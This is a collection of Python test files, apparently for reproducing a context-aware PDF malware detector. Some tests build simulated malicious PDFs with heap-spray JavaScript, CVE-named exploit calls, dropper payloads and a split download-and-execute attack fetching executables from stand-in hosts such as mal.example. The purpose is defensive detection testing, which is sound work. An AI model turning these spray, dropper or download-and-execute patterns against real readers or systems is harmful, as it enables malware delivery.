        "filter_cascade_bomb": lambda: malformed.filter_cascade_bomb(scale),
        "deep_page_tree": lambda: malformed.deep_page_tree(scale * 20),
        "object_flood": lambda: malformed.object_flood(scale * 100),
        "truncated_stream": lambda: malformed.truncated_stream(
            scale * 256, keep=scale
        ),
    }[builder]()
    pipeline = ProtectionPipeline(limits=TIGHT)
    report = pipeline.scan(data, f"{builder}-{scale}.pdf")
    _assert_structured(report)
