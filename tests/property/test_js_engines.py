"""Property-based engine equivalence: random programs, identical runs.

A recursive grammar strategy generates JavaScript programs over the
subset the corpus actually uses (arithmetic, strings, loops, functions,
``try``/``catch``, one level of ``eval``) and asserts the bytecode VM
and the reference walker agree on the completion value, any thrown
error, the consumed step budget and the host's allocation telemetry.
Programs that run forever are safe: the tight ``max_steps`` budget
turns them into a budget-exhaustion comparison, which is itself part
of the contract.
"""

from __future__ import annotations

from typing import Any, Tuple

import pytest
from hypothesis import given, settings, strategies as st

from repro.js import make_interpreter
from repro.js.interpreter import Host

pytestmark = pytest.mark.diff

MAX_STEPS = 3_000

# -- expression grammar ------------------------------------------------------

NAMES = ("a", "b", "c", "s", "i")

number_lit = st.one_of(
    st.integers(-50, 50).map(str),
    st.sampled_from(["0", "1", "2.5", "0.1", "1e3"]),
)
string_lit = st.sampled_from(["''", "'x'", "'ab'", "'hello'", "'%u9090'", "'0'"])
atom = st.one_of(
    number_lit,
    string_lit,
    st.sampled_from(list(NAMES)),
    st.sampled_from(["true", "false", "null", "undefined"]),
)

BINOPS = ["+", "-", "*", "/", "%", "<", ">", "<=", ">=", "==", "!=", "===",
          "!==", "&", "|", "^", "&&", "||"]
UNOPS = ["-", "+", "!", "~", "typeof "]


def _expr_layer(inner: st.SearchStrategy) -> st.SearchStrategy:
    binary = st.tuples(inner, st.sampled_from(BINOPS), inner).map(
        lambda t: f"({t[0]} {t[1]} {t[2]})"
    )
    unary = st.tuples(st.sampled_from(UNOPS), inner).map(lambda t: f"({t[0]}{t[1]})")
    ternary = st.tuples(inner, inner, inner).map(
        lambda t: f"({t[0]} ? {t[1]} : {t[2]})"
    )
    method = st.tuples(inner, st.sampled_from([
        ".length", ".toUpperCase()", ".charCodeAt(0)", ".substr(0, 2)",
        ".indexOf('x')", ".charAt(1)",
    ])).map(lambda t: f"(('' + {t[0]}){t[1]})")
    call = inner.map(lambda e: f"String.fromCharCode(65 + (({e}) & 15))")
    return st.one_of(binary, unary, ternary, method, call)


expression = st.recursive(atom, _expr_layer, max_leaves=12)

# -- statement grammar -------------------------------------------------------

assign = st.tuples(st.sampled_from(list(NAMES)), expression).map(
    lambda t: f"{t[0]} = {t[1]};"
)
compound = st.tuples(
    st.sampled_from(list(NAMES)), st.sampled_from(["+=", "-=", "*="]), expression
).map(lambda t: f"{t[0]} {t[1]} {t[2]};")
update = st.tuples(
    st.sampled_from(list(NAMES)), st.sampled_from(["++", "--"])
).map(lambda t: f"{t[0]}{t[1]};")
expr_stmt = expression.map(lambda e: f"{e};")


def _stmt_layer(inner: st.SearchStrategy) -> st.SearchStrategy:
    block = st.lists(inner, min_size=1, max_size=3).map(
        lambda body: "{ " + " ".join(body) + " }"
    )
    if_stmt = st.tuples(expression, block, block).map(
        lambda t: f"if ({t[0]}) {t[1]} else {t[2]}"
    )
    for_loop = st.tuples(
        st.sampled_from(list(NAMES)), st.integers(0, 6), block
    ).map(lambda t: f"for ({t[0]} = 0; {t[0]} < {t[1]}; {t[0]}++) {t[2]}")
    while_loop = st.tuples(
        st.sampled_from(list(NAMES)), st.integers(1, 5), block
    ).map(lambda t: f"{t[0]} = 0; while ({t[0]} < {t[1]}) {{ {t[0]}++; }}")
    try_stmt = st.tuples(block, block).map(
        lambda t: f"try {t[0]} catch (err) {t[1]}"
    )
    return st.one_of(block, if_stmt, for_loop, while_loop, try_stmt)


statement = st.recursive(
    st.one_of(assign, compound, update, expr_stmt), _stmt_layer, max_leaves=8
)

program = st.lists(statement, min_size=1, max_size=6).map(
    lambda body: "var a = 0, b = 1, c = 'z', s = '', i = 0;\n" + "\n".join(body)
)

fn_program = st.tuples(st.lists(statement, min_size=1, max_size=4), expression).map(
    lambda t: (
        "function gen(a, b) { var c = 'z', s = '', i = 0;\n"
        + "\n".join(t[0])
        + f"\nreturn {t[1]}; }}\ngen(1, 'q')"
    )
)

eval_program = statement.map(
    lambda s: "var a = 0, b = 1, c = 'z', s = '', i = 0;\n"
    + f"eval({_js_quote(s)}); a + ':' + s"
)


def _js_quote(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace("'", "\\'").replace("\n", " ")
    return f"'{escaped}'"


# -- the property ------------------------------------------------------------


def footprint(engine: str, source: str) -> Tuple[Any, ...]:
    host = Host()
    interp = make_interpreter(engine, host=host, max_steps=MAX_STEPS)
    try:
        status: Tuple[Any, ...] = ("ok", repr(interp.run(source)))
    except Exception as exc:  # noqa: BLE001
        status = ("err", type(exc).__name__, str(exc))
    return status, interp.steps, host.allocated_bytes, len(host.spray_pool)


def assert_engines_agree(source: str) -> None:
    ast_run = footprint("ast", source)
    bc_run = footprint("bytecode", source)
    assert ast_run == bc_run, (
        f"engines diverged on:\n{source}\n  ast: {ast_run}\n  bytecode: {bc_run}"
    )


@given(program)
@settings(max_examples=200, deadline=None)
def test_random_programs_agree(source):
    assert_engines_agree(source)


@given(fn_program)
@settings(max_examples=150, deadline=None)
def test_random_function_bodies_agree(source):
    assert_engines_agree(source)


@given(eval_program)
@settings(max_examples=80, deadline=None)
def test_random_programs_agree_through_eval(source):
    assert_engines_agree(source)


@given(program, st.integers(1, 120))
@settings(max_examples=100, deadline=None)
def test_random_budget_cutoffs_agree(source, budget):
    """The budget must blow at the same tick for any cutoff."""
    runs = []
    for engine in ("ast", "bytecode"):
        interp = make_interpreter(engine, max_steps=budget)
        try:
            interp.run(source)
            outcome: Tuple[Any, ...] = ("ok",)
        except Exception as exc:  # noqa: BLE001
            outcome = ("err", type(exc).__name__)
        runs.append((outcome, interp.steps))
    assert runs[0] == runs[1], f"budget={budget} diverged on:\n{source}\n{runs}"
