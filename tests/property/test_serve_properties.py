"""Scan-service properties (ISSUE 5, satellite 3).

1. For any request ordering/interleaving (hypothesis picks the corpus,
   the submission order, and the client thread count), the multiset of
   service verdicts equals the multiset of sequential ``pipeline.scan``
   verdicts.
2. Cache hits never change a verdict: a request served from the cache
   reports exactly the verdict of the original scan.

The queue is kept deep and deadlines generous so no request is shed —
these properties are about verdict identity, not overload (the stress
harness covers shedding).
"""

import concurrent.futures as cf

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.pdf.builder import DocumentBuilder
from repro.serve import AdmissionConfig, ScanService

pytestmark = pytest.mark.serve

SEED = 77
SETTINGS = PipelineSettings(seed=SEED)


def _pool():
    docs = []

    plain = DocumentBuilder()
    plain.add_page("no javascript at all")
    docs.append(("plain.pdf", plain.to_bytes()))

    benign_js = DocumentBuilder()
    benign_js.add_page("benign js")
    benign_js.add_javascript("var x = 2 + 2; app.alert('x=' + x);")
    docs.append(("benign-js.pdf", benign_js.to_bytes()))

    from tests.conftest import spray_js

    malicious = DocumentBuilder()
    malicious.add_page("")
    malicious.add_javascript(spray_js())
    docs.append(("malicious.pdf", malicious.to_bytes()))

    docs.append(("garbage.pdf", b"%PDF-1.4 truncated nonsense without objects"))
    return docs


POOL = _pool()


def _sequential_verdicts():
    pipeline = ProtectionPipeline(seed=SEED)
    verdicts = {}
    for name, data in POOL:
        report = pipeline.scan(data, name)
        verdicts[name] = (
            report.verdict.malicious,
            report.verdict.malscore,
            report.errored,
        )
    return verdicts


SEQUENTIAL = _sequential_verdicts()


def _service():
    return ScanService(
        settings=SETTINGS,
        jobs=2,
        admission=AdmissionConfig(
            max_queue_depth=64, max_in_flight=2, deadline_seconds=120.0
        ),
    ).start()


def _verdict_key(name, payload):
    verdict = payload["verdict"]
    return (name, verdict["malicious"], verdict["malscore"], verdict["errored"])


@given(
    picks=st.lists(
        st.integers(min_value=0, max_value=len(POOL) - 1),
        min_size=0, max_size=6,
    ),
    clients=st.sampled_from([1, 2, 4]),
)
@settings(
    max_examples=8, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_any_interleaving_equals_sequential_multiset(picks, clients):
    items = [POOL[i] for i in picks]
    service = _service()
    try:
        with cf.ThreadPoolExecutor(max_workers=clients) as pool:
            futures = [
                pool.submit(service.handle_scan, data, name)
                for name, data in items
            ]
            results = [f.result(timeout=120.0) for f in futures]
    finally:
        assert service.drain(timeout=60.0) is True
    assert all(r.status == 200 for r in results)
    got = sorted(
        _verdict_key(name, result.payload)
        for (name, _), result in zip(items, results)
    )
    expected = sorted((name, *SEQUENTIAL[name]) for name, _ in items)
    assert got == expected


@given(
    picks=st.lists(
        st.integers(min_value=0, max_value=len(POOL) - 1),
        min_size=1, max_size=4,
    ),
    copies=st.integers(min_value=2, max_value=3),
)
@settings(
    max_examples=6, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_cache_hits_never_change_a_verdict(picks, copies):
    unique = sorted(set(picks))
    items = [POOL[i] for i in unique] * copies
    service = _service()
    try:
        with cf.ThreadPoolExecutor(max_workers=2) as pool:
            futures = [
                pool.submit(service.handle_scan, data, name)
                for name, data in items
            ]
            results = [f.result(timeout=120.0) for f in futures]
    finally:
        assert service.drain(timeout=60.0) is True
    assert all(r.status == 200 for r in results)
    by_name = {}
    for (name, _), result in zip(items, results):
        key = _verdict_key(name, result.payload)
        by_name.setdefault(name, set()).add(key[1:])
    # Cached or not, every repeat of a document reports one verdict.
    for name, verdicts in by_name.items():
        assert len(verdicts) == 1, name
        assert next(iter(verdicts)) == SEQUENTIAL[name], name
    # Interleaving decides how many hits occur, but some repeats of a
    # cacheable (non-errored) document should have been served cached.
    cacheable = [
        (name, result.payload["cached"])
        for (name, _), result in zip(items, results)
        if not SEQUENTIAL[name][2]
    ]
    if cacheable:
        names = {name for name, _ in cacheable}
        assert len(cacheable) >= len(names)
