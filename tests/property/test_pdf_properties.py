"""Property-based tests (hypothesis) for the PDF substrate."""

import string

from hypothesis import given, settings, strategies as st

from repro.pdf import filters
from repro.pdf.lexer import Lexer, TokenType
from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFString,
)
from repro.pdf.writer import serialize_value


binary = st.binary(max_size=2048)


@given(binary)
def test_flate_roundtrip(data):
    assert filters.flate_decode(filters.flate_encode(data)) == data


@given(binary)
def test_ascii_hex_roundtrip(data):
    assert filters.ascii_hex_decode(filters.ascii_hex_encode(data)) == data


@given(binary)
def test_ascii85_roundtrip(data):
    assert filters.ascii85_decode(filters.ascii85_encode(data)) == data


@given(binary)
def test_run_length_roundtrip(data):
    assert filters.run_length_decode(filters.run_length_encode(data)) == data


@given(st.binary(max_size=1024))
@settings(max_examples=30)
def test_lzw_roundtrip(data):
    assert filters.lzw_decode(filters.lzw_encode(data)) == data


@given(binary, st.integers(min_value=0, max_value=4))
@settings(max_examples=30)
def test_cascade_roundtrip(data, levels):
    names = filters.cascade_names(levels)
    encoded = filters.encode_cascade(data, names)
    for name in names:
        encoded = filters.decode(name, encoded)
    assert encoded == data


name_text = st.text(
    alphabet=string.ascii_letters + string.digits + "-_.#()<>/ ",
    min_size=1,
    max_size=24,
)


@given(name_text)
def test_name_raw_roundtrip(decoded):
    """encode_default → from_raw is the identity on decoded names."""
    name = PDFName(decoded)
    assert PDFName.from_raw(name.raw) == decoded


# Recursive strategy for arbitrary PDF values.
pdf_scalar = st.one_of(
    st.booleans(),
    st.integers(min_value=-10**9, max_value=10**9),
    st.just(PDFNull),
    st.builds(PDFString, st.binary(max_size=64)),
    st.builds(
        PDFString, st.binary(max_size=64), st.just(True)
    ),  # hex form
    st.builds(PDFName, name_text),
    st.builds(PDFRef, st.integers(1, 9999), st.integers(0, 5)),
)

pdf_value = st.recursive(
    pdf_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=5).map(PDFArray),
        st.dictionaries(
            st.builds(PDFName, name_text), children, max_size=5
        ).map(PDFDict),
    ),
    max_leaves=20,
)


def _normalize(value):
    """Equality modulo float/int representation and name spelling."""
    if isinstance(value, PDFName):
        return ("name", str(value))
    if isinstance(value, PDFString):
        return ("string", bytes(value))
    if isinstance(value, bool):
        return ("bool", value)
    if isinstance(value, (int, float)):
        return ("number", float(value))
    if isinstance(value, PDFRef):
        return ("ref", value.num, value.gen)
    if isinstance(value, PDFArray):
        return ("array", tuple(_normalize(v) for v in value))
    if isinstance(value, PDFDict):
        return (
            "dict",
            tuple(sorted((str(k), _normalize(v)) for k, v in value.items())),
        )
    return ("null",)


@given(pdf_value)
@settings(max_examples=120)
def test_serialize_parse_roundtrip(value):
    """Any PDF value survives serialize → tokenize/parse."""
    from repro.pdf.parser import PDFParser

    data = serialize_value(value)
    parser = PDFParser(b"%PDF-1.4\n1 0 obj null endobj\n")
    lexer = Lexer(data)
    parsed = parser._parse_value(lexer)
    assert _normalize(parsed) == _normalize(value)
    assert lexer.next_token().type is TokenType.EOF
