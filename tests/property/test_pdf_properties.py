"""Property-based tests (hypothesis) for the PDF substrate."""

import string

from hypothesis import given, settings, strategies as st

from repro.pdf import filters
from repro.pdf.lexer import Lexer, TokenType
from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFString,
)
from repro.pdf.writer import serialize_value


binary = st.binary(max_size=2048)


@given(binary)
def test_flate_roundtrip(data):
    assert filters.flate_decode(filters.flate_encode(data)) == data


@given(binary)
def test_ascii_hex_roundtrip(data):
    assert filters.ascii_hex_decode(filters.ascii_hex_encode(data)) == data


@given(binary)
def test_ascii85_roundtrip(data):
    assert filters.ascii85_decode(filters.ascii85_encode(data)) == data


@given(binary)
def test_run_length_roundtrip(data):
    assert filters.run_length_decode(filters.run_length_encode(data)) == data


@given(st.binary(max_size=1024))
@settings(max_examples=30)
def test_lzw_roundtrip(data):
    assert filters.lzw_decode(filters.lzw_encode(data)) == data


@given(binary, st.integers(min_value=0, max_value=4))
@settings(max_examples=30)
def test_cascade_roundtrip(data, levels):
    names = filters.cascade_names(levels)
    encoded = filters.encode_cascade(data, names)
    for name in names:
        encoded = filters.decode(name, encoded)
    assert encoded == data


name_text = st.text(
    alphabet=string.ascii_letters + string.digits + "-_.#()<>/ ",
    min_size=1,
    max_size=24,
)


@given(name_text)
def test_name_raw_roundtrip(decoded):
    """encode_default → from_raw is the identity on decoded names."""
    name = PDFName(decoded)
    assert PDFName.from_raw(name.raw) == decoded


# Recursive strategy for arbitrary PDF values.
pdf_scalar = st.one_of(
    st.booleans(),
    st.integers(min_value=-10**9, max_value=10**9),
    st.just(PDFNull),
    st.builds(PDFString, st.binary(max_size=64)),
    st.builds(
        PDFString, st.binary(max_size=64), st.just(True)
    ),  # hex form
    st.builds(PDFName, name_text),
    st.builds(PDFRef, st.integers(1, 9999), st.integers(0, 5)),
)

pdf_value = st.recursive(
    pdf_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=5).map(PDFArray),
        st.dictionaries(
            st.builds(PDFName, name_text), children, max_size=5
        ).map(PDFDict),
    ),
    max_leaves=20,
)


def _normalize(value):
    """Equality modulo float/int representation and name spelling."""
    if isinstance(value, PDFName):
        return ("name", str(value))
    if isinstance(value, PDFString):
        return ("string", bytes(value))
    if isinstance(value, bool):
        return ("bool", value)
    if isinstance(value, (int, float)):
        return ("number", float(value))
    if isinstance(value, PDFRef):
        return ("ref", value.num, value.gen)
    if isinstance(value, PDFArray):
        return ("array", tuple(_normalize(v) for v in value))
    if isinstance(value, PDFDict):
        return (
            "dict",
            tuple(sorted((str(k), _normalize(v)) for k, v in value.items())),
        )
    return ("null",)


@given(pdf_value)
@settings(max_examples=120)
def test_serialize_parse_roundtrip(value):
    """Any PDF value survives serialize → tokenize/parse."""
    from repro.pdf.parser import PDFParser

    data = serialize_value(value)
    parser = PDFParser(b"%PDF-1.4\n1 0 obj null endobj\n")
    lexer = Lexer(data)
    parsed = parser._parse_value(lexer)
    assert _normalize(parsed) == _normalize(value)
    assert lexer.next_token().type is TokenType.EOF


@given(pdf_value)
@settings(max_examples=150)
def test_lexers_agree_token_for_token(value):
    """The fast lexer and the frozen pre-optimisation reference emit
    identical ``(type, value, pos)`` streams on valid input.

    Tolerance divergences (the reference raises where the fast lexer
    warns) cannot appear here because serialized values are well-formed
    by construction.
    """
    from repro.pdf._lexer_reference import ReferenceLexer

    data = serialize_value(value)
    fast, ref = Lexer(data), ReferenceLexer(data)
    while True:
        a = fast.next_token()
        b = ref.next_token()
        assert (a.type, a.value, a.pos) == (b.type, b.value, b.pos)
        if a.type is TokenType.EOF:
            break
    assert not fast.warnings


@given(st.lists(pdf_value, min_size=1, max_size=4))
@settings(max_examples=60)
def test_lexers_agree_on_object_syntax(values):
    """Same equivalence over full ``N G obj ... endobj`` sequences,
    which also exercises keyword and integer-pair scanning."""
    from repro.pdf._lexer_reference import ReferenceLexer

    parts = []
    for num, value in enumerate(values, start=1):
        parts.append(b"%d 0 obj " % num)
        parts.append(serialize_value(value))
        parts.append(b" endobj\n")
    data = b"".join(parts)
    fast, ref = Lexer(data), ReferenceLexer(data)
    while True:
        a = fast.next_token()
        b = ref.next_token()
        assert (a.type, a.value, a.pos) == (b.type, b.value, b.pos)
        if a.type is TokenType.EOF:
            break
