"""Robustness properties: hostile/corrupt input must fail *cleanly*.

The front-end runs on untrusted downloads; whatever bytes arrive, it
must either produce a result or raise :class:`PDFParseError` — never an
unhandled internal exception.  Same for the reader.
"""

import random

from hypothesis import given, settings, strategies as st

from repro.core.instrument import Instrumenter
from repro.core.keys import KeyStore
from repro.pdf.builder import DocumentBuilder
from repro.pdf.parser import PDFParseError, parse_pdf
from repro.reader import Reader


def _base_doc() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("fuzz target")
    builder.add_javascript("var f = 1;", encoding_levels=1)
    builder.add_javascript("var g = 2;", trigger="Names", name="g")
    return builder.to_bytes()


_BASE = _base_doc()


def _mutate(data: bytes, seed: int, n_mutations: int) -> bytes:
    rng = random.Random(seed)
    buf = bytearray(data)
    for _ in range(n_mutations):
        choice = rng.random()
        if choice < 0.5 and buf:
            buf[rng.randrange(len(buf))] = rng.randrange(256)
        elif choice < 0.75 and buf:
            start = rng.randrange(len(buf))
            del buf[start : start + rng.randint(1, 32)]
        else:
            pos = rng.randrange(len(buf) + 1)
            buf[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
    return bytes(buf)


@given(st.integers(0, 10_000), st.integers(1, 12))
@settings(max_examples=80, deadline=None)
def test_parser_survives_mutations(seed, n_mutations):
    data = _mutate(_BASE, seed, n_mutations)
    try:
        parsed = parse_pdf(data)
    except PDFParseError:
        return  # clean refusal is fine
    assert parsed.store is not None  # or a usable result


@given(st.integers(0, 10_000), st.integers(1, 12))
@settings(max_examples=40, deadline=None)
def test_instrumenter_survives_mutations(seed, n_mutations):
    data = _mutate(_BASE, seed, n_mutations)
    instrumenter = Instrumenter(key_store=KeyStore.create(1), seed=1)
    try:
        result = instrumenter.instrument(data, "fuzzed.pdf")
    except PDFParseError:
        return
    assert result.data


@given(st.integers(0, 10_000), st.integers(1, 8))
@settings(max_examples=30, deadline=None)
def test_reader_survives_mutations(seed, n_mutations):
    data = _mutate(_BASE, seed, n_mutations)
    reader = Reader()
    outcome = reader.open(data, "fuzzed.pdf")
    # Either parsed+opened (ok or crashed) or a reported parse error —
    # never an exception out of open().
    assert outcome is not None


@given(st.binary(max_size=512))
@settings(max_examples=60, deadline=None)
def test_parser_arbitrary_garbage(data):
    try:
        parse_pdf(data)
    except PDFParseError:
        pass


def test_pipeline_is_deterministic(small_dataset):
    """Same corpus, same seeds → byte-identical verdict stream."""
    from repro.core.pipeline import ProtectionPipeline

    def run():
        pipe = ProtectionPipeline(seed=99)
        out = []
        for sample in small_dataset.malicious[:10] + small_dataset.benign_with_js[:5]:
            report = pipe.scan(sample.data, sample.name)
            out.append(
                (sample.name, report.verdict.malicious, report.verdict.malscore,
                 tuple(report.verdict.features.fired()), report.crashed)
            )
        return out

    assert run() == run()
