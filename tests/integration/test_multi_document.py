"""Multi-document scenarios: the paper's two challenges (§I).

1. Interference: many docs open in one single-threaded reader, runtime
   behaviour varies — the context-aware design keeps attribution clean.
2. Pinpointing: when an alert fires, the detector names the malicious
   document(s), not just "something is wrong".
"""

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload

import random


@pytest.fixture()
def pipe():
    return ProtectionPipeline(seed=9001)


def benign_memory_hog() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("big benign")
    builder.add_javascript(js.benign_report_script(900, 3072, random.Random(3)))
    return builder.to_bytes()


def malicious_sprayer(name_seed=1) -> bytes:
    rng = random.Random(name_seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(
        js.spray_script(
            150,
            Payload.dropper(f"C:\\Temp\\mal{name_seed}.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
    )
    return builder.to_bytes()


class TestAttribution:
    def test_malicious_pinpointed_among_benign(self, pipe):
        session = pipe.session()
        benign_docs = [
            pipe.protect(benign_memory_hog(), f"benign{i}.pdf") for i in range(3)
        ]
        mal = pipe.protect(malicious_sprayer(), "evil.pdf")
        for protected in benign_docs[:2]:
            session.open(protected, fire_close=False)
        report = session.open(mal, fire_close=False)
        session.open(benign_docs[2], fire_close=False)

        assert report.verdict.malicious
        assert session.monitor.alerts
        assert session.monitor.alerts[0].verdict.document == "evil.pdf"
        for protected in benign_docs:
            assert not session.verdict_for(protected).malicious
        session.close()

    def test_two_malicious_docs_both_convicted(self, pipe):
        session = pipe.session()
        m1 = pipe.protect(malicious_sprayer(1), "evil1.pdf")
        m2 = pipe.protect(malicious_sprayer(2), "evil2.pdf")
        session.open(m1, fire_close=False)
        session.open(m2, fire_close=False)
        assert session.verdict_for(m1).malicious
        assert session.verdict_for(m2).malicious
        names = {a.verdict.document for a in session.monitor.alerts}
        assert names == {"evil1.pdf", "evil2.pdf"}
        session.close()

    def test_aggregate_memory_does_not_convict_benign(self, pipe):
        """Many open benign docs push total reader memory way past the
        100 MB threshold — but per-context deltas stay small, so no
        false positive (the paper's Fig. 7/8 argument)."""
        session = pipe.session()
        protected = [
            pipe.protect(benign_memory_hog(), f"hog{i}.pdf") for i in range(6)
        ]
        for doc in protected:
            session.open(doc, fire_close=False)
        total = session.reader.memory_counters().private_usage
        assert total > 100 * 1024 * 1024  # context-free would alarm here
        for doc in protected:
            assert not session.verdict_for(doc).malicious
        session.close()


class TestCollusionScenario:
    def test_split_download_and_execute(self, pipe):
        """Two documents cooperate: one downloads, the other executes.
        §III-E: the detector links them through the executable list and
        convicts both."""
        rng = random.Random(11)
        downloader_code = js.spray_script(
            150,
            Payload(
                [
                    # download only; no execution
                    __import__("repro.reader.payload", fromlist=["PayloadOp"]).PayloadOp(
                        "url", "http://mal.example/two.exe>C:\\Temp\\two.exe"
                    )
                ]
            ),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
        executor_code = js.spray_script(
            150,
            Payload(
                [
                    __import__("repro.reader.payload", fromlist=["PayloadOp"]).PayloadOp(
                        "exec", "C:\\Temp\\two.exe"
                    )
                ]
            ),
            rng=random.Random(12),
            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, random.Random(12)),
        )

        def doc_with(code):
            builder = DocumentBuilder()
            builder.add_page("")
            builder.pad_with_objects(40)  # keep static features quiet
            builder.add_javascript(code)
            return builder.to_bytes()

        session = pipe.session()
        downloader = pipe.protect(doc_with(downloader_code), "downloader.pdf")
        executor = pipe.protect(doc_with(executor_code), "executor.pdf")
        session.open(downloader, fire_close=False)
        session.open(executor, fire_close=False)

        v_downloader = session.verdict_for(downloader)
        v_executor = session.verdict_for(executor)
        assert v_executor.malicious
        assert v_downloader.malicious
        # Collusion handling: executor got a prepended drop, downloader
        # an appended execution.
        assert 11 in v_executor.features.fired()
        assert 12 in v_downloader.features.fired()
        session.close()


class TestCrossSessionCollusion:
    def test_executable_list_links_documents_across_sessions(self, pipe):
        """§III-E: malscore dies with the reader session, but the
        downloaded-executable list is persistent — a document executing
        a file some *earlier session's* document downloaded is still
        linked to it."""
        from repro.reader.payload import PayloadOp

        def doc_with(code):
            builder = DocumentBuilder()
            builder.add_page("")
            builder.pad_with_objects(40)
            builder.add_javascript(code)
            return builder.to_bytes()

        rng = random.Random(21)
        downloader_code = js.spray_script(
            150,
            Payload([PayloadOp("url", "http://m.example/x2.exe>C:\\Temp\\x2.exe")]),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
        rng2 = random.Random(22)
        executor_code = js.spray_script(
            150,
            Payload([PayloadOp("exec", "C:\\Temp\\x2.exe")]),
            rng=rng2,
            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng2),
        )

        # Session 1: the downloader runs and the session closes.
        pipe.scan(doc_with(downloader_code), "downloader.pdf")
        assert "c:\\temp\\x2.exe" in pipe.persistent_executables

        # Session 2 (fresh monitor state): the executor is convicted
        # with the prepended malware-dropping feature.
        report = pipe.scan(doc_with(executor_code), "executor.pdf")
        assert report.verdict.malicious
        assert 11 in report.verdict.features.fired()


class TestSessionLifecycle:
    def test_malscore_volatile_executables_persistent(self, pipe):
        session = pipe.session()
        mal = pipe.protect(malicious_sprayer(5), "evil.pdf")
        session.open(mal, fire_close=False)
        assert session.monitor.states
        executables = dict(session.monitor.downloaded_executables)
        session.close()
        assert not session.monitor.states
        assert session.monitor.downloaded_executables == executables

    def test_crash_closes_all_documents(self, pipe):
        rng = random.Random(77)
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_javascript(
            js.spray_script(150, Payload.bad_jump(), rng=rng,
                            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng))
        )
        crasher = pipe.protect(builder.to_bytes(), "crasher.pdf")
        benign = pipe.protect(benign_memory_hog(), "b.pdf")
        session = pipe.session()
        session.open(benign, fire_close=False)
        report = session.open(crasher, fire_close=False)
        assert report.crashed
        assert all(not h.open for h in session.reader.handles)
        session.close()
