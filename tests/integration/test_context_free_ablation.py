"""Ablation: context-aware vs context-free memory monitoring.

Reproduces the argument of §V-B (Figs. 7 and 8): a context-free monitor
watching total reader memory cannot pick a workable threshold, while
the per-JS-context delta separates benign from malicious by an order
of magnitude.
"""

import random

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


@pytest.fixture(scope="module")
def pipe():
    return ProtectionPipeline(seed=606)


def benign_doc(mb: int, seed: int) -> bytes:
    builder = DocumentBuilder()
    builder.add_page("benign")
    line_chars = 2048
    iterations = max(64, mb * 1024 * 1024 // (line_chars * 2 * 2))
    builder.add_javascript(js.benign_report_script(iterations, line_chars, random.Random(seed)))
    return builder.to_bytes()


def malicious_doc(mb: int, seed: int) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(
        js.spray_script(mb, Payload.dropper(), rng=rng,
                        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng))
    )
    return builder.to_bytes()


def in_js_memory_mb(pipe, data: bytes, name: str) -> float:
    session = pipe.session()
    protected = pipe.protect(data, name)
    report = session.open(protected, fire_close=False)
    mb = report.outcome.handle.js_heap_bytes / (1024 * 1024)
    session.close()
    return mb


class TestContextAwareSeparation:
    def test_benign_band(self, pipe):
        values = [in_js_memory_mb(pipe, benign_doc(mb, mb), f"b{mb}.pdf") for mb in (2, 8, 16)]
        assert max(values) < 30  # paper: ≤ 21 MB

    def test_malicious_band(self, pipe):
        values = [
            in_js_memory_mb(pipe, malicious_doc(mb, mb), f"m{mb}.pdf")
            for mb in (110, 200)
        ]
        assert min(values) > 100  # paper: ≥ 103 MB

    def test_order_of_magnitude_gap(self, pipe):
        benign = in_js_memory_mb(pipe, benign_doc(10, 1), "b.pdf")
        malicious = in_js_memory_mb(pipe, malicious_doc(150, 2), "m.pdf")
        assert malicious / max(benign, 0.1) > 5


class TestContextFreeFailure:
    def test_no_single_threshold_works(self, pipe):
        """Total process memory with N benign docs open exceeds the
        memory of one malicious doc alone — any context-free threshold
        either misses malicious or flags stacks of benign documents."""
        # Context-free reading: many benign docs.
        session = pipe.session()
        for i in range(8):
            session.open(pipe.protect(benign_doc(14, i), f"b{i}.pdf"), fire_close=False)
        benign_total = session.reader.memory_counters().private_usage
        session.close()

        # One malicious doc alone.
        session2 = pipe.session()
        session2.open(pipe.protect(malicious_doc(110, 9), "m.pdf"), fire_close=False)
        malicious_total = session2.reader.memory_counters().private_usage
        session2.close()

        # A threshold below malicious_total would also fire on the
        # benign stack; one above it would miss the malicious doc.
        assert benign_total > malicious_total * 0.5

    def test_context_aware_still_correct_in_same_scenario(self, pipe):
        session = pipe.session()
        benign_docs = [pipe.protect(benign_doc(14, i), f"b{i}.pdf") for i in range(8)]
        for doc in benign_docs:
            session.open(doc, fire_close=False)
        mal = pipe.protect(malicious_doc(110, 9), "m.pdf")
        report = session.open(mal, fire_close=False)
        assert report.verdict.malicious
        for doc in benign_docs:
            assert not session.verdict_for(doc).malicious
        session.close()
