"""End-to-end integration tests over the whole system."""

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus.malicious import MaliciousKind


@pytest.fixture(scope="module")
def pipe():
